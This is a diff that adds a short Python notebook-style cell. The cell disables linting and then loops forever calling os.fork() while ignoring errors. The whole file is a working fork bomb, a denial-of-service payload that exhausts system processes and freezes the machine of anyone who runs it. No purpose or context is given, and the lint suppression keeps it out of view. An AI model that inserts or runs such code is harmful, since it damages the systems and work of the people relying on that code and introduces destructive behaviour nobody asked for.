@@ -1,0 +1,9 @@
+# %%
+# ruff: noqa
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
